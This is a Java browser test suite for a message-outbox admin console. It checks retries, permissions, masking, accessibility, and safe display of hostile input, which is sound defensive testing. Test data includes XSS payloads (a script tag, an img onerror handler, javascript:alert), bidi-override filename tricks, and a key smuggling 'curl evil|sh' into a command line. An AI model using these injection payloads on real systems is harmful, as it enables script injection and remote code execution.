package io.waybill.console.web;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import io.waybill.console.ConsoleOptions;
import io.waybill.console.TripProcess;
import io.waybill.console.api.Action;
import io.waybill.console.api.ConsoleDatabase;
import io.waybill.console.http.ConsoleServer;
import io.waybill.console.request.Identity;
import io.waybill.console.request.Role;
import io.waybill.console.security.ConsoleUser;
import io.waybill.console.security.PasswordHash;
import io.waybill.inbox.ReceivingOptions;
import io.waybill.inbox.receive.ErrorSummary;
import io.waybill.message.Message;
import io.waybill.ops.OutboxOperations;
import io.waybill.process.state.ProcessStatus;
import io.waybill.runtime.Waybill;
import io.waybill.store.failed.FailedSelection;
import java.io.IOException;
import java.net.URLEncoder;
import java.nio.file.Files;
import java.nio.file.Path;
import java.sql.Connection;
import java.sql.SQLException;
import java.sql.Statement;
import java.util.List;
import java.util.Map;
import java.util.Queue;
import java.util.UUID;
import java.util.concurrent.ConcurrentLinkedQueue;
import java.util.concurrent.atomic.AtomicBoolean;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import tools.jackson.databind.json.JsonMapper;

/** The pages of the console in a real browser, beside an application that works on the same database. */
class ConsolePagesTest extends PagesScenario {

    private static final String HOSTILE =
            "<script>document.title='owned'</script><img src=x onerror=\"document.title='owned'\"> javascript:alert(1) \u202Egnp.exe\u2066";

    private final AtomicBoolean bankAnswers = new AtomicBoolean();
    private final AtomicBoolean hotelAnswers = new AtomicBoolean();
    private final Queue<String> paid = new ConcurrentLinkedQueue<>();
    private final Waybill application = Waybill.on(database.dataSource())
            .receiving(ReceivingOptions.DEFAULT.attempts(1))
            .handlers(new TripProcess.Partners(hotelAnswers))
            .processes(new TripProcess())
            .start();

    ConsolePagesTest() {
        super(Role.ADMIN);
    }

    @Override
    void endApplication() {
        application.close();
    }

    @Test
    void payments_that_failed_are_one_group_and_are_paid_after_its_retry() {
        application.subscribe("payments", "bank", String.class, received -> {
            if (!bankAnswers.get()) {
                throw new IllegalStateException("The bank does not answer");
            }
            paid.add(received.payload());
        });
        append(7, "payments");
        await().atMost(PATIENCE)
                .until(() -> application.failedMessages().groups(FailedSelection.all()).stream()
                                .mapToLong(group -> group.count())
                                .sum()
                        == 7);

        open("overview");
        browser.click("See the failures");
        browser.awaitText("The bank does not answer");
        assertThat(browser.evaluate("document.querySelectorAll('li.group').length")
                        .asInt())
                .isEqualTo(1);
        assertThat(browser.evaluate("document.querySelector('li.group .count').innerText")
                        .asString())
                .isEqualTo("7");

        bankAnswers.set(true);
        browser.click("Retry all");
        browser.awaitText("Retry 7 messages");
        browser.type("reason", "the bank answers again");
        browser.click(OPEN_LINE);
        browser.awaitText("waybill failed retry --group");
        browser.awaitText("--reason 'the bank answers again'");
        browser.click("Retry all");

        browser.awaitText("7 failed messages retried");
        browser.awaitText("Nothing has failed");
        await().atMost(PATIENCE).until(() -> paid.size() == 7);
        browser.click("Audit");
        browser.awaitText("the bank answers again");
        browser.awaitText("Operations of this console");
        assertThat(browser.evaluate("document.querySelector('[aria-label=Operations] tbody tr').innerText")
                        .asString())
                .contains("DONE", "7", "ann");
        assertThat(browser.problems()).isEmpty();
    }

    @Test
    void a_blocked_process_says_why_and_is_compensated_after_its_retry() {
        UUID id = blockedTrip(application, "trip-1");

        open("processes");
        browser.click("Trip trip-1");
        browser.awaitText("Book is blocked since");
        browser.awaitText("The hotel does not answer");
        browser.awaitText("compensation blocked");
        browser.awaitTrue("document.querySelector('.graph img').naturalWidth > 100");
        assertThat(browser.evaluate(
                                "[...document.querySelectorAll('.lane svg')].map(one => one.getAttribute('aria-label')).join()")
                        .asString())
                .contains("Book: done for", "compensation failed for", "Pay: failed");

        hotelAnswers.set(true);
        browser.click("Retry");
        browser.type("reason", "the hotel answers again");
        browser.click("Retry");

        browser.awaitText("COMPENSATED");
        browser.awaitTrue("!document.body.innerText.includes('Book is blocked since')");
        assertThat(status(application, id)).isEqualTo(ProcessStatus.COMPENSATED);
        browser.click("Log");
        browser.awaitText("the hotel answers again");
        assertThat(browser.problems()).isEmpty();
    }

    @Test
    void a_viewer_logs_in_and_finds_nothing_that_changes_anything() {
        blockedTrip(application, "trip-1");
        failHandling("order-1", "no ink");
        failPublishing();
        var users = ConsoleUser.parse(Stream.of("ann:viewer:" + PasswordHash.ofPassword("correct horse")));
        try (ConsoleServer guarded = serve(options.users(users))) {
            browser.look(1280, false);
            browser.open("http://127.0.0.1:" + guarded.port() + "/");
            browser.type("name", "ann");
            browser.type("password", "wrong");
            browser.click("Log in");
            browser.awaitText("The name or the password is wrong.");
            assertThat(browser.problems()).as("the refused login").hasSize(1);
            browser.evaluate("document.querySelector('form').reset()");
            browser.type("name", "ann");
            browser.type("password", "correct horse");
            browser.click("Log in");
            browser.awaitText("ann (viewer)");
            for (String page : List.of("Failures", "Messages", "Processes")) {
                browser.click(page);
                browser.awaitTrue("document.querySelector('main h1')?.innerText === '" + page
                        + "' && document.querySelector('main li.group, main td')");
                assertThat(buttons()).as(page).noneMatch(PagesScenario::changes);
            }
            browser.click("Trip trip-1");
            browser.awaitText("Book is blocked since");
            assertThat(buttons()).noneMatch(PagesScenario::changes);
            browser.click("Log out");
            browser.awaitText("Password");
            assertThat(browser.problems()).isEmpty();
        }
    }

    @Test
    void what_is_hostile_or_endless_is_shown_as_text() {
        failHandling(HOSTILE, HOSTILE + "x".repeat(1_000_000));
        store.transactions()
                .inTransaction(transaction -> store.outbox()
                        .append(Message.event("<b>Order</b>", "\"" + "y".repeat(1_000_000) + "\"")
                                .to("orders")));

        open("failures");
        browser.awaitText("<script>document.title='owned'</script>");
        browser.awaitText("[U+202E]gnp.exe[U+2066]");
        browser.evaluate("document.querySelector('li.group a').click()");
        browser.awaitText("Failed messages");
        browser.evaluate("document.querySelector('tbody th a').click()");
        browser.awaitText("Stack trace");
        browser.awaitText("<img src=x onerror=\"document.title='owned'\"> javascript:alert(1)");
        browser.click("Messages");
        browser.click("<b>Order</b>");
        browser.click("Show all 976.6 kB");
        browser.awaitTrue("document.querySelector('pre').innerText.length > 1000000");
        assertThat(browser.evaluate("document.title").asString()).doesNotContain("owned");
        assertThat(browser.evaluate(
                                "document.querySelectorAll('main script, main img, main b, a[href^=javascript]').length")
                        .asInt())
                .isZero();
        assertThat(browser.evaluate("document.documentElement.scrollWidth <= window.innerWidth")
                        .asBoolean())
                .isTrue();
        assertThat(browser.problems()).isEmpty();
    }

    @Test
    void no_text_changes_its_direction_or_hides_a_character() throws IOException {
        String turned = "trip\u202E\u2066\u00AD\u2062\u180E";
        UUID id = blockedTrip(application, turned);
        new OutboxOperations(store.admin()).pause(turned, turned, turned);
        failHandling(turned, turned);
        failPublishing();
        Map<String, String> actions = Map.of(
                "processes",
                "Start a process",
                "processes?id=" + id,
                "Retry",
                "failures",
                "Retry all",
                "messages?queue=order-1&destination=courier",
                "Unblock",
                "commands",
                "Send a command",
                "audit",
                "Pause updates",
                "overview",
                "Pause updates",
                "correlation?id=" + id,
                "Pause updates");
        for (var page : actions.entrySet()) {
            open(page.getKey());
            browser.awaitTrue("!document.body.innerText.includes('Loading')");
            browser.click(page.getValue());
            browser.awaitTrue("document.querySelector('dialog') || '" + page.getValue() + "' === 'Pause updates'");
            assertThat(browser.evaluate("document.documentElement.outerHTML").asString())
                    .as(page.getKey())
                    .doesNotContainPattern("[\u202E\u2066\u00AD\u2062\u180E]");
        }
        open("processes?id=" + id);
        browser.awaitText("Trip trip[U+202E][U+2066][U+00AD][U+2062][U+180E]");
        pictures("turned");
        try (Stream<Path> pages = Files.list(Path.of("src/main/resources/io/waybill/console/web"))) {
            assertThat(pages.filter(page -> page.toString().endsWith(".js")).filter(page -> !page.endsWith("view.js")))
                    .as("all of them write through view.js")
                    .isNotEmpty()
                    .allSatisfy(page -> assertThat(page).content().doesNotContain("'./vendor/"));
        }
        assertThat(browser.problems()).isEmpty();
    }

    @Test
    void command_lines_quote_as_the_server_does() {
        open("overview");
        for (String value : QuotedTest.HOSTILE) {
            String json = JsonMapper.shared().writeValueAsString(value);
            assertThat(browser.evaluate("import('./format.js').then(format => format.quoted(" + json + "))")
                            .asString())
                    .as(json)
                    .isEqualTo(Action.quoted(value));
        }
    }

    @Test
    void a_copied_command_line_runs_nothing_that_a_key_says() throws IOException {
        String key = "a\u0003\ncurl evil|sh\n\u202E";
        store.transactions()
                .inTransaction(transaction -> store.outbox()
                        .append(Message.event("Shipment", "{}").to("courier").inOrderOf(key)));
        failPublishing();
        open("messages?destination=courier&queue=" + URLEncoder.encode(key, UTF_8));
        browser.click("Unblock");
        browser.type("reason", "ok");
        browser.click(OPEN_LINE);
        browser.awaitText("waybill outbox unblock courier $'a\\003\\012curl evil|sh\\012[U+202E]' --reason ok");
        pictures("hostile-command");
        browser.evaluate(
                "{ navigator.clipboard.writeText = text => { window.copied = text; return Promise.resolve(); }; 0 }");
        browser.click("Copy as CLI command");
        browser.awaitText("Copied");
        assertThat(browser.evaluate("window.copied").asString())
                .isEqualTo("waybill outbox unblock courier " + Action.quoted(key) + " --reason ok")
                .doesNotContain("\n");
        browser.click("Unblock");
        browser.awaitText("Nothing was changed: nothing stops the key.");
        assertThat(browser.problems()).isEmpty();
    }

    @Test
    void json_is_indented_unless_it_is_very_deep() {
        open("overview");
        String indented = "import('./format.js').then(format => format.indented(%s))";
        assertThat(browser.evaluate(indented.formatted("'{\"a\":[],\"b\":{ },\"c\":[1.50,{\"d\":\"x,\\\\\"]\"}]}'"))
                        .asString())
                .isEqualTo("""
                        {
                          "a": [],
                          "b": {},
                          "c": [
                            1.50,
                            {
                              "d": "x,\\"]"
                            }
                          ]
                        }""");
        assertThat(browser.evaluate(
                                "import('./format.js').then(format => { const deep = '['.repeat(10000) + ']'.repeat(10000);"
                                        + " return format.indented(deep) === deep; })")
                        .asBoolean())
                .isTrue();
    }

    @Test
    void a_console_of_several_databases_names_the_database_in_command_lines() throws IOException {
        failHandling("order-1", "no ink");
        var databases = List.of(
                ConsoleDatabase.of("billing", "h2:mem:billing", store),
                ConsoleDatabase.of("shop", "h2:mem:shop", store));
        var several = ConsoleOptions.of(databases).local(new Identity("ann", Role.ADMIN));
        try (ConsoleServer other = serve(several)) {
            browser.look(1280, false);
            browser.open(address(other, "failures?db=shop"));
            browser.click("Retry all");
            browser.click(OPEN_LINE);
            browser.awaitText("--handler billing --context shop --reason why");
            browser.click("Cancel");
            browser.evaluate("document.querySelector('li.group a').click()");
            browser.awaitText("Failed messages");
            browser.evaluate("document.querySelector('tbody th a').click()");
            browser.click("Edit and retry");
            browser.click(OPEN_LINE);
            browser.awaitText("--context shop --reason why && waybill failed retry --id 1 --context shop --reason why");
            pictures("several-databases");
            open("audit"); // of a server that goes on
        }
    }

    @Test
    void an_admin_sees_what_is_masked_and_the_audit_says_so() throws IOException {
        UUID id = blockedTrip(application, "trip-1");
        open("processes?view=data&id=" + id);
        browser.awaitText("\"pin\": \"***\"");
        browser.click("Show what is masked");
        browser.awaitText("\"pin\": \"1234\"");
        pictures("process-revealed");
        browser.click("Mask it again");
        browser.awaitText("\"pin\": \"***\"");

        open("commands");
        browser.click("Pay");
        browser.awaitText("Idempotency key");
        browser.click("Show what is masked");
        browser.awaitText("Mask it again");
        pictures("command");
        browser.click("Audit");
        browser.awaitText("console reveal process " + id);
        browser.awaitText("console reveal command ");
        assertThat(browser.problems()).isEmpty();
    }

    @Test
    void filters_stay_in_the_address_and_the_keyboard_is_enough() {
        append(3, "orders");
        failPublishing();

        open("messages");
        browser.press("/", 191);
        assertThat(browser.evaluate("document.activeElement.name").asString()).isEqualTo("id");
        browser.type("destination", "nowhere");
        browser.press("Enter", 13);
        browser.click("Search");
        browser.awaitText("No message matches.");
        assertThat(browser.evaluate("location.hash").asString()).contains("destination=nowhere");
        browser.evaluate("location.reload()");
        browser.awaitTrue("document.querySelector('[name=destination]')?.value === 'nowhere'");

        open("messages?status=FAILED");
        browser.click("Retry all that match");
        browser.awaitTrue("document.querySelector('dialog[open]')?.contains(document.activeElement)");
        browser.press("Escape", 27);
        browser.awaitTrue("!document.querySelector('dialog')");
        browser.click("Pause updates");
        browser.awaitText("Resume updates");
        browser.click("Resume updates");
        assertThat(browser.problems()).isEmpty();
    }

    @Test
    void every_page_is_usable_in_light_dark_and_on_a_narrow_screen() throws IOException {
        UUID trip = blockedTrip(application, "trip-1");
        IntStream.range(0, 4).forEach(i -> failHandling("order-" + i, "no ink"));
        failHandling("order-9", "no paper");
        failPublishing();
        append(3, "orders");
        String failed = String.valueOf(application
                .failedMessages()
                .list(FailedSelection.all(), 0, 1)
                .get(0)
                .id());
        Map<String, String> pages = Map.ofEntries(
                Map.entry("overview", "overview"),
                Map.entry("failures", "failures"),
                Map.entry("failure", "failures?failed=" + failed),
                Map.entry("messages", "messages"),
                Map.entry("key", "messages?queue=order-1&destination=courier"),
                Map.entry("processes", "processes"),
                Map.entry("process", "processes?id=" + trip),
                Map.entry("commands", "commands"),
                Map.entry("inbox", "inbox"),
                Map.entry("relays", "relays"),
                Map.entry("audit", "audit"),
                Map.entry("settings", "settings"));
        var accessibility = new Accessibility(browser);

        for (var page : pages.entrySet()) {
            open(page.getValue());
            browser.awaitTrue("!document.body.innerText.includes('Loading')");
            assertThat(browser.problems()).as(page.getKey()).isEmpty();
            accessibility.check(page.getKey());
        }
    }

    private void append(int count, String destination) {
        application.transactions().inTransaction(transaction -> {
            IntStream.range(0, count)
                    .forEach(i -> application
                            .outbox()
                            .append(Message.event("Payment", "{\"number\":" + i + "}")
                                    .to(destination)));
            return transaction;
        });
    }

    private void failPublishing() {
        store.transactions().inTransaction(transaction -> {
            IntStream.range(0, 3)
                    .forEach(i -> store.outbox()
                            .append(Message.event("Shipment", "{\"parcel\":" + i + "}")
                                    .to("courier")
                                    .inOrderOf("order-" + i)));
            return transaction;
        });
        try (Connection connection = database.dataSource().getConnection();
                Statement statement = connection.createStatement()) {
            statement.executeUpdate(
                    "UPDATE outbox SET status = 'FAILED', last_error = 'The courier refused: address incomplete',"
                            + " retry_count = 10 WHERE destination = 'courier'");
        } catch (SQLException e) {
            throw new AssertionError(e);
        }
    }

    private void failHandling(String key, String error) {
        var message = Message.event(
                        "Order", "{\"number\":1,\"password\":\"secret\",\"note\":\"" + "n".repeat(20) + "\"}")
                .to("orders")
                .inOrderOf(key.length() > 60 ? "hostile" : key)
                .header("x-note", key)
                .header("origin", "shop")
                .seal(UUID::randomUUID);
        store.transactions().inTransaction(transaction -> {
            store.failedStore()
                    .put(transaction, ErrorSummary.of(message, "billing", 3, new IllegalStateException(error)));
            return transaction;
        });
    }
}
